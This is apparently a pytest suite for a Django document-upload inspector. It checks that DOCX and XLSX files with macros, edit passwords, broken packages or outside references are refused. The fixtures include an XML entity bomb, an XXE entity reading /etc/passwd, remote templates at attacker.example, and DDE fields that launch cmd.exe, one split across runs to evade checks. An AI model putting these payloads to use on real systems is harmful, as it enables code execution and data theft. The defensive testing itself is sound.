"""DOCX and XLSX: genuine packages pass; macros, passwords, outside references and broken packages are refused."""

import io
import zipfile

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from submissions.enums import DocumentKind, FileType
from submissions.inspection import UploadRejected, inspect_upload
from tests.submissions.sample_documents import (
    WORD,
    content_types,
    minimal_docx,
    openpyxl_bytes,
    python_docx_bytes,
    read_member,
    relationships,
    rezip,
    word_document,
)

DAMAGED = "The selected file for the action plan is damaged or incomplete"
NO_MACROS = "The selected file for the action plan must not contain macros"
NO_EMBEDDED = "The selected file for the action plan must not contain embedded objects"
LINKS_OUTSIDE = "The selected file for the action plan must not link to other files or load content from outside itself"
EDIT_PASSWORD = "The selected file for the action plan must not be protected from editing with a password"
MAIN_RELATIONSHIP = ("rId1", "officeDocument", "word/document.xml", None)


def inspect(content, name="plan.docx", kind=DocumentKind.ACTION_PLAN):
    return inspect_upload(SimpleUploadedFile(name, content), kind=kind)


def refusal(content, name="plan.docx"):
    with pytest.raises(UploadRejected) as rejected:
        inspect(content, name)
    return rejected.value.reason, str(rejected.value)


def with_settings(settings_xml):
    """A python-docx document whose word/settings.xml is `settings_xml`."""
    return rezip(python_docx_bytes(), {"word/settings.xml": settings_xml})


def settings_part(inner):
    return f'<?xml version="1.0" encoding="UTF-8"?><w:settings xmlns:w="{WORD}">{inner}</w:settings>'


def docx_with_document_relationship(kind, target, mode):
    return minimal_docx({"word/_rels/document.xml.rels": relationships(("rId9", kind, target, mode))})


def workbook_with(change):
    workbook = openpyxl.Workbook()
    workbook.active["A1"] = "Recommendation"
    change(workbook)
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


# Genuine packages --------------------------------------------------------------------------------

def test_inspect_upload_python_docx_document_accepted():
    inspected = inspect(python_docx_bytes())

    # python-docx's template states one page in docProps/app.xml.
    assert (inspected.file_type, inspected.page_count) == (FileType.DOCX, 1)


def test_inspect_upload_docx_stating_three_pages_reports_three():
    app = read_member(python_docx_bytes(), "docProps/app.xml").replace("<Pages>1</Pages>", "<Pages>3</Pages>")

    assert inspect(rezip(python_docx_bytes(), {"docProps/app.xml": app})).page_count == 3


def test_inspect_upload_minimal_docx_without_page_count_says_none():
    inspected = inspect(minimal_docx())

    assert (inspected.file_type, inspected.page_count) == (FileType.DOCX, None)


def test_inspect_upload_openpyxl_workbook_accepted_for_action_plan():
    content = openpyxl_bytes()

    inspected = inspect(content, "plan.xlsx")

    assert (inspected.file_type, inspected.page_count, inspected.size) == (FileType.XLSX, None, len(content))


def test_inspect_upload_workbook_refused_for_overview_report():
    with pytest.raises(UploadRejected) as rejected:
        inspect(openpyxl_bytes(), "report.xlsx", kind=DocumentKind.OVERVIEW_REPORT)

    assert (rejected.value.reason, str(rejected.value)) == (
        "type_not_allowed",
        "The selected file for the overview report must be a PDF, Word document (DOCX) or OpenDocument text (ODT)",
    )


def test_inspect_upload_docx_with_web_hyperlink_accepted():
    content = docx_with_document_relationship("hyperlink", "https://www.gov.uk/", "External")

    assert inspect(content).file_type == FileType.DOCX


def test_inspect_upload_docx_restricting_editing_without_password_accepted():
    protection = '<w:documentProtection w:edit="readOnly" w:enforcement="1"/>'

    assert inspect(with_settings(settings_part(protection))).file_type == FileType.DOCX


def test_inspect_upload_docx_with_ordinary_fields_accepted():
    body = ('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> PAGE </w:instrText></w:r>'
            '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
            '<w:p><w:fldSimple w:instr=" HYPERLINK &quot;https://www.gov.uk/LINK&quot; "/></w:p>')

    assert inspect(minimal_docx({"word/document.xml": word_document(body)})).file_type == FileType.DOCX


# Package structure -------------------------------------------------------------------------------

def test_inspect_upload_zip_without_content_types_refused():
    content = zipfile_of_readme()

    assert refusal(content) == (
        "unrecognised",
        "The selected file for the action plan must be a PDF, Word document (DOCX), OpenDocument text (ODT) "
        "or Excel spreadsheet (XLSX)",
    )


def zipfile_of_readme():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("readme.txt", "Not a Word document")
    return out.getvalue()


def test_inspect_upload_docx_without_package_relationships_refused():
    assert refusal(minimal_docx({"_rels/.rels": None})) == ("package_incomplete", DAMAGED)


def test_inspect_upload_docx_whose_main_part_is_missing_refused():
    assert refusal(minimal_docx({"word/document.xml": None})) == ("package_incomplete", DAMAGED)


def test_inspect_upload_docx_whose_relationship_climbs_out_of_package_refused():
    content = minimal_docx({"_rels/.rels": relationships(("rId1", "officeDocument", "../word/document.xml", None))})

    assert refusal(content) == ("package_incomplete", DAMAGED)


def test_inspect_upload_word_template_refused_as_wrong_type():
    template = "application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml"

    assert refusal(minimal_docx(main_type=template))[0] == "unrecognised"


def test_inspect_upload_docx_with_malformed_xml_refused():
    content = minimal_docx({"word/document.xml": word_document().replace("</w:body>", "")})

    assert refusal(content) == ("xml_invalid", DAMAGED)


def test_inspect_upload_docx_with_entity_expansion_bomb_refused():
    bomb = ('<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
            '<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
            '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>'
            f'<w:document xmlns:w="{WORD}"><w:body><w:p><w:r><w:t>&lol3;</w:t></w:r></w:p></w:body></w:document>')

    assert refusal(minimal_docx({"word/document.xml": bomb})) == ("xml_dtd", DAMAGED)


def test_inspect_upload_docx_with_external_entity_refused():
    external = ('<?xml version="1.0"?><!DOCTYPE d [<!ENTITY secret SYSTEM "file:///etc/passwd">]>'
                f'<w:document xmlns:w="{WORD}"><w:body><w:p><w:r><w:t>&secret;</w:t></w:r></w:p></w:body></w:document>')

    assert refusal(minimal_docx({"word/document.xml": external})) == ("xml_dtd", DAMAGED)


# Macros, controls and embedded objects -----------------------------------------------------------

def test_inspect_upload_macro_enabled_main_part_refused():
    content = minimal_docx(main_type="application/vnd.ms-word.document.macroEnabled.main+xml")

    assert refusal(content) == ("macros", NO_MACROS)


def test_inspect_upload_docx_with_vba_project_refused():
    assert refusal(minimal_docx({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 macros"})) == ("macros", NO_MACROS)


def test_inspect_upload_docx_with_vba_data_refused():
    assert refusal(minimal_docx({"word/vbaData.xml": "<wne:vbaSuppData xmlns:wne='urn:x'/>"})) == ("macros", NO_MACROS)


def test_inspect_upload_docx_declaring_vba_content_type_refused():
    declared = content_types(extra='<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>')

    assert refusal(minimal_docx({"[Content_Types].xml": declared})) == ("macros", NO_MACROS)


def test_inspect_upload_docx_with_vba_relationship_refused():
    content = docx_with_document_relationship("http://schemas.microsoft.com/office/2006/relationships/vbaProject",
                                              "vbaProject.data", None)

    assert refusal(content) == ("macros", NO_MACROS)


def test_inspect_upload_docx_with_embedded_macro_workbook_refused():
    assert refusal(minimal_docx({"word/embeddings/Sheet1.xlsm": b"PK"})) == ("macros", NO_MACROS)


def test_inspect_upload_docx_with_activex_control_refused():
    content = minimal_docx({"word/activeX/activeX1.xml": "<ax:ocx xmlns:ax='urn:x'/>"})

    assert refusal(content) == ("activex", "The selected file for the action plan must not contain ActiveX controls")


def test_inspect_upload_docx_with_embedded_ole_object_refused():
    assert refusal(minimal_docx({"word/embeddings/oleObject1.bin": b"\x00" * 64})) == ("embedded_object", NO_EMBEDDED)


def test_inspect_upload_docx_with_ole_object_relationship_refused():
    content = docx_with_document_relationship("oleObject", "embeddings/object1.dat", None)

    assert refusal(content) == ("embedded_object", NO_EMBEDDED)


# References outside the file ---------------------------------------------------------------------

@pytest.mark.parametrize("kind, target", [
    ("attachedTemplate", "https://attacker.example/template.dotm"),
    ("attachedTemplate", "file:///C:/templates/normal.dotm"),
    ("image", "https://tracker.example/pixel.png"),
    ("frame", "https://attacker.example/frame.html"),
    ("subDocument", "\\\\server\\share\\chapter.docx"),
    ("oleObject", "file:///C:/data/book.xlsx"),
])
def test_inspect_upload_docx_with_external_relationship_refused(kind, target):
    content = docx_with_document_relationship(kind, target, "External")

    assert refusal(content) == ("external_reference", LINKS_OUTSIDE)


def test_inspect_upload_docx_with_remote_template_in_settings_relationships_refused():
    rels = relationships(("rId1", "attachedTemplate", "https://attacker.example/t.dotm", "External"))

    assert refusal(rezip(python_docx_bytes(), {"word/_rels/settings.xml.rels": rels})) == (
        "external_reference", LINKS_OUTSIDE
    )


def test_inspect_upload_docx_with_internal_target_that_has_scheme_refused():
    content = docx_with_document_relationship("image", "file:///etc/passwd", None)

    assert refusal(content) == ("external_reference", LINKS_OUTSIDE)


@pytest.mark.parametrize("body", [
    '<w:p><w:fldSimple w:instr=" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot; "/></w:p>',
    '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DD</w:instrText></w:r>'
    '<w:r><w:instrText>E cmd "/c calc"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>',
    '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
    '<w:r><w:instrText> INCLUDETEXT "\\\\\\\\server\\\\share\\\\x.docx" </w:instrText></w:r>'
    '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>',
], ids=["dde-simple", "dde-split-across-runs", "includetext"])
def test_inspect_upload_docx_with_field_reaching_outside_refused(body):
    content = minimal_docx({"word/document.xml": word_document(body)})

    assert refusal(content) == ("external_field", LINKS_OUTSIDE)


def test_inspect_upload_xlsx_with_external_workbook_link_refused():
    content = rezip(openpyxl_bytes(), {"xl/externalLinks/externalLink1.xml": "<externalLink xmlns='urn:x'/>"})

    assert refusal(content, "plan.xlsx") == ("external_reference", LINKS_OUTSIDE)


# Edit passwords ----------------------------------------------------------------------------------

@pytest.mark.parametrize("protection", [
    '<w:documentProtection w:edit="readOnly" w:enforcement="1" w:hash="9oN7nWkCAyEZib1RomSJTjmPpCY=" '
    'w:salt="0rO2fLeVEoKaXVd6f0T2rQ=="/>',
    '<w:documentProtection w:edit="forms" w:enforcement="1" w:algorithmName="SHA-512" '
    'w:hashValue="c2VjcmV0" w:saltValue="c2FsdA==" w:spinCount="100000"/>',
    '<w:writeProtection w:recommended="1" w:algorithmName="SHA-512" w:hashValue="c2VjcmV0" w:saltValue="c2FsdA=="/>',
], ids=["legacy-hash", "sha512", "write-protection"])
def test_inspect_upload_docx_protected_with_password_refused(protection):
    assert refusal(with_settings(settings_part(protection))) == ("edit_protected", EDIT_PASSWORD)


def test_inspect_upload_xlsx_with_sheet_password_refused():
    def protect(workbook):
        workbook.active.protection.sheet = True
        workbook.active.protection.password = "secret"

    assert refusal(workbook_with(protect), "plan.xlsx") == ("edit_protected", EDIT_PASSWORD)


def test_inspect_upload_xlsx_with_workbook_password_refused():
    def protect(workbook):
        workbook.security = openpyxl.workbook.protection.WorkbookProtection(workbookPassword="secret",
                                                                            lockStructure=True)

    assert refusal(workbook_with(protect), "plan.xlsx") == ("edit_protected", EDIT_PASSWORD)


def test_inspect_upload_xlsx_with_file_sharing_password_refused():
    original = openpyxl_bytes()
    workbook = read_member(original, "xl/workbook.xml")
    start = workbook.index(">", workbook.index("<workbook")) + 1
    shared = workbook[:start] + '<fileSharing userName="CSP" reservationPassword="CC3D"/>' + workbook[start:]

    assert refusal(rezip(original, {"xl/workbook.xml": shared}), "plan.xlsx") == ("edit_protected", EDIT_PASSWORD)


def test_inspect_upload_macro_enabled_workbook_refused():
    original = openpyxl_bytes()
    types = read_member(original, "[Content_Types].xml").replace(
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
        "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
    )

    assert refusal(rezip(original, {"[Content_Types].xml": types}), "plan.xlsx") == ("macros", NO_MACROS)
